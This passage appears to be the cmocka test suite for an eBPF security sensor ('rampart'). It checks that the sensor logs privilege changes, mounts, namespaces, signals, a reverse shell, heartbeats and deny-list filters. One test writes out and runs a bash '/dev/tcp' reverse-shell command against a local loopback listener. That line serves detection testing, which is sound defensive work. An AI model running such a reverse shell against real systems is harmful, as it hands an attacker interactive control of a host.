    assert_field(r, "syscall", "setresuid");
    assert_field(r, "res", "0");
    assert_non_null(drec_get(r, "old_username"));
    assert_non_null(drec_get(r, "old_caps"));
    assert_non_null(drec_get(r, "new_caps"));
    /* exactly one: dropping to 1000 is not a change to root */
    char p[16];
    snprintf(p, sizeof(p), "%d", (int)pid);
    assert_int_equal(driver_client_count(T.c, 604, "tgid", p, NULL), 1);
}

/* 611: a root process whose parent is not root, without a setuid exec or setuid call. */
static void child_escalation(void *p)
{
    int *sh = p;
    char ch;
    if (read(sh[1], &ch, 1) != 1) /* the test watches this pid first */
        _exit(1);
    int go[2];
    if (pipe(go) < 0)
        _exit(1);
    pid_t b = fork();
    if (b == 0) {
        char c;
        close(go[1]);
        if (read(go[0], &c, 1) != 1)
            _exit(1);
        char *argv[] = {"true", NULL};
        char *envp[] = {NULL};
        execve("/bin/true", argv, envp);
        _exit(1);
    }
    sh[0] = b;
    if (setresgid(1000, 1000, 1000) < 0 || setresuid(1000, 1000, 1000) < 0)
        _exit(2);
    if (write(go[1], "x", 1) != 1)
        _exit(3);
    int st;
    waitpid(b, &st, 0);
}

static void test_privilege_escalation(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    int *sh = (int *)shared_arg();
    int start[2];
    assert_int_equal(pipe(start), 0);
    sh[1] = start[0];
    pid_t a = fork();
    if (a == 0) {
        child_escalation(sh);
        _exit(0);
    }
    /* B's parent A is gone by the time its record is read: keep records about A's children */
    driver_client_watch(T.c, a);
    assert_int_equal(write(start[1], "x", 1), 1);
    int st;
    waitpid(a, &st, 0);
    assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
    close(start[0]);
    close(start[1]);
    const drec_t *r = wait_for(611, sh[0]);
    char pa[16];
    snprintf(pa, sizeof(pa), "%d", (int)a);
    assert_field(r, "p_pid", pa);
    assert_field(r, "ppid", pa);
    assert_field(r, "p_cred", "1000|1000|1000|1000|1000|1000|1000|1000");
    assert_field(r, "c_cred", "0|0|0|0|0|0|0|0");
    assert_field(r, "uid", "0");
    assert_field(r, "exe", "/usr/bin/true");
    munmap(sh, 4096);
}

static void child_mount(void *p)
{
    const char *dir = p;
    if (unshare(CLONE_NEWNS) < 0)
        _exit(1);
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        _exit(2);
    if (mount("rampart-tmpfs", dir, "tmpfs", MS_NOSUID, "size=64k") < 0)
        _exit(3);
}

static void test_mount(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    char *dir = calloc(1, PATH_MAX + 16);
    snprintf(dir, PATH_MAX + 16, "%s/mnt", T.dir);
    assert_int_equal(mkdir(dir, 0700), 0);
    pid_t pid = run_child(child_mount, dir);
    char p[16];
    snprintf(p, sizeof(p), "%d", (int)pid);
    const drec_t *r = driver_client_wait(T.c, 165, WAIT_MS, "tgid", p, "fstype", "tmpfs", NULL);
    assert_non_null(r);
    assert_field(r, "dev", "rampart-tmpfs");
    assert_field(r, "file_path", dir);
    assert_field(r, "flags", "2"); /* MS_NOSUID */
    assert_field(r, "res", "0");
    /* the mount happened in a new mount namespace */
    const char *mntns = drec_get(r, "mntns");
    assert_non_null(mntns);
    assert_string_not_equal(mntns, T.mntns);
    assert_field(r, "pns", T.pns);
    free(dir);
}

static void child_prctl(void *p)
{
    (void)p;
    if (prctl(PR_SET_NAME, "rampart-nm", 0, 0, 0) < 0)
        _exit(1);
}

static void test_prctl(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    pid_t pid = run_child(child_prctl, NULL);
    const drec_t *r = wait_for(157, pid);
    check_common(r, pid, self_exe, "rampart-nm");
    assert_field(r, "option", "15");
    assert_field(r, "new_name", "rampart-nm");
    assert_field(r, "res", "0");
}

static void child_setsid(void *p)
{
    (void)p;
    if (setsid() < 0)
        _exit(1);
}

static void test_setsid(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    pid_t pid = run_child(child_setsid, NULL);
    const drec_t *r = wait_for(112, pid);
    char p[16];
    snprintf(p, sizeof(p), "%d", (int)pid);
    assert_field(r, "res", p);
    assert_field(r, "sid", p);
    assert_field(r, "pgid", p);
    assert_field(r, "ppid", T.self);
    assert_field(r, "exe", self_exe);
}

static void child_kill(void *p)
{
    int *sh = p;
    pid_t t = fork();
    if (t == 0) {
        for (;;)
            pause();
    }
    sh[0] = t;
    if (kill(t, SIGTERM) < 0)
        _exit(1);
    waitpid(t, NULL, 0);
}

static void test_kill(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    int *sh = (int *)shared_arg();
    pid_t pid = run_child(child_kill, sh);
    const drec_t *r = wait_for(62, pid);
    check_common(r, pid, self_exe, NULL);
    char t[16];
    snprintf(t, sizeof(t), "%d", sh[0]);
    assert_field(r, "target_pid", t);
    assert_field(r, "sig", "15");
    assert_field(r, "res", "0");
    munmap(sh, 4096);
}

/* ---------- namespaces and cgroup under unshare ---------- */

static void test_unshare_namespaces(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    if (!T.cgroup2[0])
        skip();
    char cg[PATH_MAX + 64], procs[PATH_MAX + 96];
    snprintf(cg, sizeof(cg), "%s/rampart-driver-test-%s", T.cgroup2, T.self);
    assert_int_equal(mkdir(cg, 0755), 0);
    snprintf(procs, sizeof(procs), "%s/cgroup.procs", cg);
    struct stat st;
    assert_int_equal(stat(cg, &st), 0);
    char want_cg[24];
    fmt_u(want_cg, sizeof(want_cg), st.st_ino);
    int procs_fd = open(procs, O_WRONLY);
    assert_true(procs_fd >= 0);
    pid_t pid = fork();
    if (pid == 0) {
        char me[16];
        int n = 0;
        for (pid_t v = getpid(); v; v /= 10)
            me[n++] = (char)('0' + v % 10);
        char rev[16];
        for (int i = 0; i < n; i++)
            rev[i] = me[n - 1 - i];
        if (write(procs_fd, rev, (size_t)n) != n)
            _exit(1);
        char *argv[] = {"unshare", "--pid", "--fork",
                        "--mount", "--uts", "--mount-proc",
                        "/bin/sh", "-c",    "hostname rampart-ns && exec /bin/sleep 0.3",
                        NULL};
        char *envp[] = {"PATH=/usr/bin:/usr/sbin:/bin:/sbin", NULL};
        execve("/usr/bin/unshare", argv, envp);
        _exit(1);
    }
    close(procs_fd);
    driver_client_watch(T.c, pid);
    int status;
    waitpid(pid, &status, 0);
    assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 0);
    const drec_t *r = driver_client_wait(T.c, 59, WAIT_MS, "comm", "sleep", "nodename",
                                         "rampart-ns", "cgroup_id", want_cg, NULL);
    if (!r)
        fail_msg("no execve of sleep in the new namespaces");
    assert_field(r, "exe", "/usr/bin/sleep");
    assert_field(r, "argv", "/bin/sleep 0.3");
    assert_field(r, "root_pns", T.pns);
    assert_string_not_equal(drec_get(r, "pns"), T.pns);
    assert_string_not_equal(drec_get(r, "mntns"), T.mntns);
    assert_string_not_equal(drec_get(r, "cgroup_id"), T.cgid);
    /* pid 1 of the new namespace is sh exec'ing sleep; its host pid is a real pid */
    assert_true(atoi(drec_get(r, "pid")) > 1);
    rmdir(cg);
}

/* ---------- reverse shell ---------- */

static void test_reverse_shell(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    uint16_t port;
    int l = listener(AF_INET, &port);
    char cmd[128];
    snprintf(cmd, sizeof(cmd), "bash -i >& /dev/tcp/127.0.0.1/%u 0>&1", port);
    pid_t pid = fork();
    if (pid == 0) {
        char *argv[] = {"bash", "-c", cmd, NULL};
        char *envp[] = {"PATH=/usr/bin:/bin", "HOME=/tmp", "TERM=dumb", NULL};
        execve("/bin/bash", argv, envp);
        _exit(1);
    }
    driver_client_watch(T.c, pid);
    struct sockaddr_in peer;
    socklen_t len = sizeof(peer);
    int s = accept(l, (void *)&peer, &len);
    assert_true(s >= 0);
    char sport[8], dport[8];
    snprintf(sport, sizeof(sport), "%u", ntohs(peer.sin_port));
    snprintf(dport, sizeof(dport), "%u", port);
    const drec_t *r = driver_client_wait(T.c, 59, WAIT_MS, "argv", "bash -i", "sport", sport, NULL);
    if (!r)
        fail_msg("no execve record of bash -i with its socket");
    assert_field(r, "exe", "/usr/bin/bash");
    const char *in = drec_get(r, "stdin"), *out = drec_get(r, "stdout");
    assert_non_null(in);
    assert_true(strncmp(in, "socket:[", 8) == 0);
    assert_string_equal(in, out);
    assert_field(r, "sa_family", "2");
    assert_field(r, "dip", "127.0.0.1");
    assert_field(r, "dport", dport);
    assert_field(r, "sip", "127.0.0.1");
    assert_field(r, "sport", sport);
    assert_true(write(s, "exit\n", 5) == 5);
    close(s);
    close(l);
    int st;
    waitpid(pid, &st, 0);
}

/* ---------- heartbeat, anti-rootkit ---------- */

static void test_heartbeat(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    const drec_t *r = driver_client_wait(T.c, 1001, WAIT_MS, "load_failures", "0", NULL);
    assert_non_null(r);
    /* every program attached (the tests switch every event type on), but those of syscalls
     * this kernel has no tracepoint for */
    static const char *const syscalls[] = {
        "connect",   "accept",       "accept4",     "bind",         "sendto",  "sendmsg",
        "sendmmsg",  "open",         "creat",       "openat",       "openat2", "rename",
        "renameat",  "renameat2",    "link",        "linkat",       "unlink",  "unlinkat",
        "ptrace",    "memfd_create", "init_module", "finit_module", "setuid",  "setreuid",
        "setresuid", "setfsuid",     "capset",      "mount",        "prctl",   "setsid",
        "kill"};
    char want[2048] = "", one[64];
    unsigned attached = 0;
    for (size_t i = 0; i < sizeof(syscalls) / sizeof(syscalls[0]); i++) {
        bool here = has_exit_tracepoint(syscalls[i]);
        attached += here;
        snprintf(one, sizeof(one), "rs_x_%s:%s,", syscalls[i], here ? "attached" : "unavailable");
        strcat(want, one);
    }
    strcat(want, "rs_exec:attached,rs_exit:attached,rs_iter_task:attached");
    char n[16];
    snprintf(n, sizeof(n), "%u", attached + 3);
    assert_field(r, "programs_attached", n);
    assert_field(r, "programs", want);
    assert_non_null(drec_get(r, "drops"));
    assert_non_null(drec_get(r, "events_execve"));
    assert_true(strtoull(drec_get(r, "events"), NULL, 10) > 0);
    /* the scan ran and found nothing hidden on a clean host */
    r = driver_client_wait(T.c, 1001, WAIT_MS, "anti_rootkit", "task_iter", NULL);
    assert_non_null(r);
    assert_field(r, "hidden_procs", "0");
    assert_int_equal(driver_client_count(T.c, 3100, NULL), 0);
}

/* ---------- filters: switches, deny list, rate limit (a second sensor instance) ---------- */

static void child_prctl_loop(void *p)
{
    (void)p;
    for (int i = 0; i < 200; i++)
        prctl(PR_SET_NAME, "rampart-rl", 0, 0, 0);
    setsid(); /* switched off in the second instance */
}

static void child_exec_true(void *p)
{
    int *go = p;
    char ch;
    close(go[1]);
    if (read(go[0], &ch, 1) != 1)
        _exit(1);
    pid_t k = fork();
    if (k == 0) {
        char *argv[] = {"true", NULL};
        char *envp[] = {NULL};
        execve("/bin/true", argv, envp);
        _exit(1);
    }
    waitpid(k, NULL, 0);
}

static void test_filters(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    char log[PATH_MAX + 32];
    snprintf(log, sizeof(log), "%s/driver-filters.log", T.logdir);
    const char *args[] = {"--events",
                          "execve,prctl",
                          "--rate-limit",
                          "20",
                          "--deny-exe",
                          "/usr/bin/true",
                          "--heartbeat-secs",
                          "1",
                          "--rootkit-secs",
                          "0",
                          NULL};
    driver_client_t *c = driver_client_start(DRIVER_BIN, args, log);
    assert_non_null(c);
    pid_t pid = run_child(child_prctl_loop, NULL);
    int go[2];
    assert_int_equal(pipe(go), 0);
    pid_t pt = fork();
    if (pt == 0) {
        child_exec_true(go);
        _exit(0);
    }
    driver_client_watch(T.c, pt);
    assert_int_equal(write(go[1], "x", 1), 1);
    waitpid(pt, NULL, 0);
    close(go[0]);
    close(go[1]);
    char p[16];
    snprintf(p, sizeof(p), "%d", (int)pid);
    /* a heartbeat after both children: rate-limit drops and the filtered execve counted */
    size_t kept = 0;
    unsigned long long drops = 0, filtered = 0;
    for (int i = 0; i < 60; i++) {
        kept = driver_client_count(c, 157, "tgid", p, NULL);
        const drec_t *hb = driver_client_last(c, 1001);
        const char *d = hb ? drec_get(hb, "drops_prctl") : NULL;
        drops = d ? strtoull(d, NULL, 10) : 0;
        filtered = hb ? strtoull(drec_get(hb, "filtered"), NULL, 10) : 0;
        if (kept + drops >= 200 && filtered >= 1)
            break;
        usleep(200 * 1000);
    }
    assert_true(kept >= 1 && kept <= 20);
    assert_true(drops >= 180 && kept + drops >= 200);
    assert_true(filtered >= 1);
    /* switched off: no setsid record; denied exe: no execve of true */
    assert_int_equal(driver_client_count(c, 112, "tgid", p, NULL), 0);
    assert_int_equal(driver_client_count(c, 59, "exe", "/usr/bin/true", NULL), 0);
    int st = driver_client_stop(c);
    assert_true(WIFEXITED(st) && WEXITSTATUS(st) == 0);
    /* the main instance (no filters) saw the execve of true */
    assert_non_null(driver_client_wait(T.c, 59, WAIT_MS, "exe", "/usr/bin/true", "ppid",
                                       (snprintf(p, sizeof(p), "%d", (int)pt), p), NULL));
}

/* ---------- no BTF: a clear error and a nonzero exit ---------- */

static void test_no_btf(void **state)
{
    (void)state;
    SKIP_IF_NEEDED();
    char log[PATH_MAX + 32];
    snprintf(log, sizeof(log), "%s/driver-nobtf.log", T.logdir);
    pid_t pid = fork();
    if (pid == 0) {
        int fd = open(log, O_WRONLY | O_CREAT | O_TRUNC, 0600);
        int devnull = open("/dev/null", O_WRONLY);
        dup2(fd, 2);
        dup2(devnull, 4);
        char *argv[] = {DRIVER_BIN, "--btf", "/nonexistent/vmlinux", NULL};
        execv(DRIVER_BIN, argv);
        _exit(127);
    }
    int st;
    waitpid(pid, &st, 0);
    assert_true(WIFEXITED(st));
    assert_int_equal(WEXITSTATUS(st), 3);
    FILE *f = fopen(log, "r");
    assert_non_null(f);
    char line[1024];
    bool found = false;
    while (fgets(line, sizeof(line), f))
        found |= strstr(line, "event=driver_load_failed") && strstr(line, "no BTF");
    fclose(f);
    assert_true(found);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_execve),
        cmocka_unit_test(test_execve_big_env),
        cmocka_unit_test(test_exit),
        cmocka_unit_test(test_connect),
        cmocka_unit_test(test_accept),
        cmocka_unit_test(test_bind),
        cmocka_unit_test(test_dns),
        cmocka_unit_test(test_create),
        cmocka_unit_test(test_rename_link_unlink),
        cmocka_unit_test(test_memfd),
        cmocka_unit_test(test_ptrace),
        cmocka_unit_test(test_module),
        cmocka_unit_test(test_privilege_change),
        cmocka_unit_test(test_privilege_escalation),
        cmocka_unit_test(test_mount),
        cmocka_unit_test(test_prctl),
        cmocka_unit_test(test_setsid),
        cmocka_unit_test(test_kill),
        cmocka_unit_test(test_unshare_namespaces),
        cmocka_unit_test(test_reverse_shell),
        cmocka_unit_test(test_heartbeat),
        cmocka_unit_test(test_filters),
        cmocka_unit_test(test_no_btf),
    };
    return cmocka_run_group_tests(tests, group_setup, group_teardown);
}
